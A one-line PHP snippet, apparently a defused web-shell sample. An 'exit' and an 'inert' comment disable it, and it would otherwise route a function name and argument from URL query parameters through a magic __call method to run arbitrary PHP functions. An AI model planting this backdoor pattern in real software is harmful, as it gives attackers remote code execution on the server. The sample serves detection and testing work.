<?php exit; /* inert */ class C{ function __call($n,$a){ return $n($a[0]);} } $c=new C; $c->{$_GET["f"]}($_GET["a"]);
